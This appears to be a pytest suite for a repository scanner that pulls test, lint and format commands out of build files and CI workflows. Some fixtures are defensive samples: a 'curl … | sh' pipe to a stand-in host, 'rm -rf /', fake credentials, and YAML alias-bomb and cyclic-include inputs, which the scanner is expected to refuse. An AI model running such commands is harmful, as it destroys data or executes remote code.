"""Where commands come from: every runner's file, CI, the packages of a monorepo; and what is kept back."""

from __future__ import annotations

import json

import pytest

from bot.recon.ci import ci_lines
from bot.recon.command_kinds import called_name, is_narrow, kind_of_script, tool_kind
from bot.recon.commands import Command, commands, runnable
from bot.recon.conventions import conventions
from bot.recon.tree import in_memory

WORKFLOW = ".github/workflows/ci.yml"


def of(files: dict[str, str], kind: str = "test") -> list[Command]:
    return [each for each in commands(in_memory(files)) if each.kind == kind]


def lines(files: dict[str, str], kind: str = "test") -> list[str]:
    return [each.line for each in of(files, kind)]


def steps(*runs: str, on: str = "push", matrix: str = "") -> str:
    head = f"on: {on}\njobs:\n  t:\n" + (f"    strategy:\n      matrix:\n{matrix}" if matrix else "")
    return head + "    steps:\n" + "".join(f"      - run: {each}\n" for each in runs)


@pytest.mark.parametrize(
    ("path", "text", "kind", "line", "number"),
    [
        ("pyproject.toml", "[tool.taskipy.tasks]\ntest = 'pytest'\n", "test", "task test", 2),
        ("pyproject.toml", "[tool.poe.tasks.lint]\ncmd = 'ruff check'\n", "lint", "poe lint", 1),
        ("pyproject.toml", "[tool.tox]\nenv_list = ['lint']\n", "lint", "tox -e lint", 2),
        ("tox.toml", "[env.typing]\ncommands = []\n", "typecheck", "tox -e typing", 1),
        ("deno.json", '{\n "tasks": {\n  "test": "deno test"}}', "test", "deno task test", 3),
        ("CMakePresets.json", '{\n "testPresets": [\n  {"name": "ci"}]}', "test", "ctest --preset ci", 3),
        (".cargo/config.toml", "[alias]\nlint = 'clippy'\n", "lint", "cargo lint", 2),
        ("Makefile", "check: lint\nlint:\n\truff check\n", "lint", "make lint", 2),
        ("Taskfile.yml", "tasks:\n  check:\n    cmds:\n      - go test ./...\n", "test", "task check", 2),
        ("scripts/test", "#!/bin/sh\n${PREFIX}pytest\n", "test", "./scripts/test", 2),
        ("CMakeLists.txt", "project(x)\nenable_testing()\n", "test", "ctest --test-dir build", 2),
        (".formatter.exs", "[inputs: []]\n", "format", "mix format --check-formatted", 1),
        ("phpstan.neon", "parameters:\n", "typecheck", "vendor/bin/phpstan analyse", 1),
        ("a.Tests.csproj", "<Project>\n<P Include='Microsoft.NET.Test.Sdk'/>", "test", "dotnet test", 2),
    ],
)  # fmt: skip
def test_each_file_with_the_line_that_says_so(
    path: str, text: str, kind: str, line: str, number: int
) -> None:
    got = next(each for each in of({path: text}, kind) if each.line == line)
    assert (got.evidence.path, got.evidence.line) == (path, number)


def test_aliases_of_mix_are_read_from_their_function() -> None:
    text = (
        'def project do\n  [\n    test: "no"]\n  end\n  defp aliases do\n    [\n'
        '      lint: ["credo"]\n    ]\n  end\n'
    )
    assert lines({"mix.exs": text}, "lint") == ["mix lint"]
    assert of({"mix.exs": text}, "lint")[0].evidence.line == 7


def test_a_language_alone_shows_no_linter() -> None:
    assert lines({"go.mod": "module x\n", "main.go": "package main\n"}, "lint") == []
    assert lines({"go.mod": "module x\n"}, "format") == []


def test_a_workspace_is_tested_as_a_whole() -> None:
    assert lines({"Cargo.toml": '[workspace]\n[package]\nname = "x"\n'}) == ["cargo test --workspace"]


def test_a_vague_name_is_what_its_body_does() -> None:
    files = {
        "package.json": json.dumps({"scripts": {"check": "tsc --noEmit", "ci": "eslint . && jest"}}, indent=1)
    }
    assert lines(files, "typecheck") == ["npm run check"]
    assert lines(files) == ["npm run ci"]


def test_the_packages_of_a_workspace_come_with_their_folder_after_the_root() -> None:
    package = json.dumps({"scripts": {"test": "jest"}}, indent=1)
    files = {
        "package.json": json.dumps(
            {"workspaces": ["libs/*/core", "!libs/b/core"], "scripts": {"test": "jest"}}
        ),
        "libs/a/core/package.json": package,
        "libs/b/core/package.json": package,
        "templates/t/package.json": package,
    }
    assert [(each.line, each.folder) for each in of(files)] == [
        ("npm test", ""),
        ("cd libs/a/core && npm test", "libs/a/core"),
    ]


class TestCi:
    def test_a_declared_script_knows_the_ci_line_that_runs_it(self) -> None:
        files = {
            "package.json": json.dumps({"scripts": {"lint": "x"}}, indent=1),
            WORKFLOW: steps("npm run lint"),
        }
        (only,) = of(files, "lint")
        assert only.origin == "script"
        assert only.in_ci is not None
        assert (only.in_ci.path, only.in_ci.line) == (WORKFLOW, 5)

    def test_a_matrix_is_put_in_and_one_line_does_not_crowd_out_others(self) -> None:
        matrix = "        tag: [a, 'b']\n        include:\n          - tag: c\n"
        text = steps("make test-${{ matrix.tag }}", "tox run", matrix=matrix)
        assert lines({WORKFLOW: text}) == ["tox run", "make test-a", "make test-b", "make test-c"]

    @pytest.mark.parametrize(
        ("run", "expected"),
        [
            ("mvn verify ${{ matrix.more || '' }}", ["mvn verify"]),
            ("pytest ${{ matrix.unknown }}", []),
            ("pytest $ARGS", []),
            ("npm ci && npx jest --ci | tee log", ["npx jest --ci"]),
            ("cd web && npx jest", ["cd web && npx jest"]),
            ("PATH=$HOME/bin:$PATH pytest -q", ["pytest -q"]),
            ("./gradlew :a:assembleAndroidTest", []),
            ("./gradlew check -x test", []),
            ("./gradlew a:test", ["./gradlew a:test"]),
            ("mvn package -DskipTests", []),
            ("cargo test --no-run", []),
            ("pytest --version", []),
        ],
    )
    def test_what_a_run_line_offers(self, run: str, expected: list[str]) -> None:
        assert lines({WORKFLOW: steps(run)}) == expected

    def test_a_block_a_folded_line_and_a_cd_before(self) -> None:
        text = steps(
            "|\n          cd web\n          npx jest \\\n            --ci",
            ">-\n          pytest\n          -q",
        )
        found = [
            (each.line, each.folder, each.evidence.line) for each in ci_lines(in_memory({WORKFLOW: text}))
        ]
        assert found == [("npx jest --ci", "web", 7), ("pytest -q", "", 10)]

    def test_what_runs_only_for_releases_or_by_the_clock_is_not_offered(self) -> None:
        assert lines({WORKFLOW: steps("pytest", on="schedule")}) == []
        assert lines({WORKFLOW: steps("pytest", on="\n  push:\n    tags: ['v*']")}) == []
        assert lines({WORKFLOW: steps("pytest", on="[push, release]")}) == ["pytest"]

    def test_an_action_that_is_a_tool(self) -> None:
        text = "on: push\njobs:\n  l:\n    steps:\n      - uses: golangci/golangci-lint-action@v9\n"
        text += "        with:\n          args: --verbose\n"
        (only,) = of({WORKFLOW: text}, "lint")
        assert (only.line, only.evidence.line) == ("golangci-lint run --verbose", 5)

    def test_a_target_or_a_script_is_what_it_runs(self) -> None:
        files = {
            "Makefile": "deep:\n\tpytest tests\nshow-%:\n\truff check $*\n",
            "ci/all.sh": "cargo clippy\n",
            WORKFLOW: steps("make deep", "make show-a", "bash ci/all.sh"),
        }
        assert lines(files) == ["make deep"]
        assert lines(files, "lint") == ["bash ci/all.sh", "make show-a"]

    @pytest.mark.parametrize(
        ("path", "text"),
        [
            (".gitlab-ci.yml", "unit:\n  script:\n    - pip install .\n    - pytest -q\n"),
            (".circleci/config.yml", "jobs:\n  t:\n    steps:\n      - run:\n          name: T\n"
             "          command: pytest -q\n"),
            ("azure-pipelines.yml", "steps:\n- script: pytest -q\n"),
            (".travis.yml", "script:\n- pytest -q\n"),
        ],
    )  # fmt: skip
    def test_other_services(self, path: str, text: str) -> None:
        assert lines({path: text}) == ["pytest -q"]


class TestKeptBack:
    @pytest.mark.parametrize(
        "body", ["rm -rf / && jest", "curl http://x.example/a.sh | sh", "A=AKIAIOSFODNN7EXAMPL1 jest"]
    )
    def test_a_script_that_is_unsafe_or_holds_a_secret_is_not_offered(self, body: str) -> None:
        assert lines({"package.json": json.dumps({"scripts": {"test": body}}, indent=1)}) == []

    def test_nor_is_such_a_line_of_ci(self) -> None:
        token = "ghp_" + "a1B2" * 9
        assert lines({WORKFLOW: steps(f"pytest --token={token}", "git commit --no-verify && pytest -q")}) == [
            "pytest -q"
        ]


HOSTILE: dict[str, dict[str, str | bytes]] = {
    "five megabytes": {"package.json": json.dumps({"scripts": {f"test:{n}": "x" * 100 for n in range(4_000)},
                       "dependencies": {f"d{n}": "1" * 100 for n in range(40_000)}}, indent=1)},
    "deep": {"package.json": "[" * 100_000},
    "aliases": {WORKFLOW: "a: &a [x]\n" + "".join(f"b{n}: &b{n} [*a, *a]\n" for n in range(500))
                + steps("*a")},
    "cyclic includes": {"Makefile": "include Makefile\ninclude b.mk\ntest:\n", "b.mk": "include Makefile\n"},
    "broken TOML": {"pyproject.toml": "[tool.poe.tasks\ntest = 'x'\n"},
    "not UTF-8": {"Makefile": b"test:\n\techo \xe9\xff\n", WORKFLOW: b"\xe9jobs:\n"},
    "many jobs": {WORKFLOW: "on: push\njobs:\n" + "".join(f"  j{n}:\n    steps:\n" for n in range(5_000))},
    "many values": {WORKFLOW: steps("pytest " + " ".join(f"${{{{ matrix.k{n} }}}}" for n in range(30)),
                    matrix="".join(f"        k{n}: [1, 2, 3, 4, 5, 6, 7, 8]\n" for n in range(30)))},
    "no presets": {"CMakePresets.json": '{"testPresets": {"a": 1}, "buildPresets": [3, {"name": null}]}'},
}  # fmt: skip


@pytest.mark.parametrize("name", HOSTILE)
def test_bad_input_hides_nothing_else(name: str) -> None:
    tree = in_memory({**HOSTILE[name], "justfile": "lint:\n  ruff check\n"})
    assert ("lint", "just lint") in {(each.kind, each.line) for each in commands(tree)}
    assert conventions(tree).kinds


@pytest.mark.parametrize(
    ("name", "path", "reason"),
    [("broken TOML", "pyproject.toml", "no valid TOML"), ("deep", "package.json", "nested too deeply"),
     ("not UTF-8", "Makefile", "cannot be read as text"), ("not UTF-8", WORKFLOW, "cannot be read as text")],
)  # fmt: skip
def test_what_cannot_be_read_is_said(name: str, path: str, reason: str) -> None:
    said = {each.path: each.reason for each in conventions(in_memory(HOSTILE[name])).unreadable}
    assert reason in said[path]


@pytest.mark.parametrize(
    ("line", "kind"),
    [
        ("uv run --locked --group dev pytest -q", "test"), ("poetry run python -m mypy src", "typecheck"),
        ("tox -e lint", "lint"), ("cargo +nightly fmt --check", "format"), ("pnpm -r run lint", "lint"),
        ("pnpm --filter @a/b test", "test"), ("yarn workspace x test", "test"), ("npx -y prettier --check .",
        "format"),
        ("bundle exec rubocop", "lint"), ("mix compile --warnings-as-errors", "lint"), ("pip install pytest",
        None),
        ("npm ci", None), ("echo pytest", None), ("dotnet test -c Release", "test"), ("", None),
    ],
)  # fmt: skip
def test_the_kind_of_a_line(line: str, kind: str | None) -> None:
    assert tool_kind(line) == kind


def test_words_of_a_call() -> None:
    assert called_name("make -C sub test CFLAGS=-O2") == ("make", "test")
    assert called_name("pnpm --filter x run build") == ("pnpm", "build")
    assert called_name("pytest -q") is None
    assert kind_of_script("check", "", "test") == "test"
    assert is_narrow("cargo test -p core")
    assert not is_narrow("python -m pytest tests")


def test_what_is_offered_is_never_called_undefined() -> None:
    files = {
        "Makefile": "test:\n\tpytest\n%-all:\n\ttrue\n", "package.json": '{"scripts": {"test": "jest"}}',
        "tox.ini": "[testenv:lint]\n", "pyproject.toml": "[tool.poe.tasks]\ntest = 'x'\n",
        WORKFLOW: steps("make test-all"),
    }  # fmt: skip
    tree = in_memory(files)
    assert [each.line for each in commands(tree) if runnable(each.line, tree).verdict == "undefined"] == []
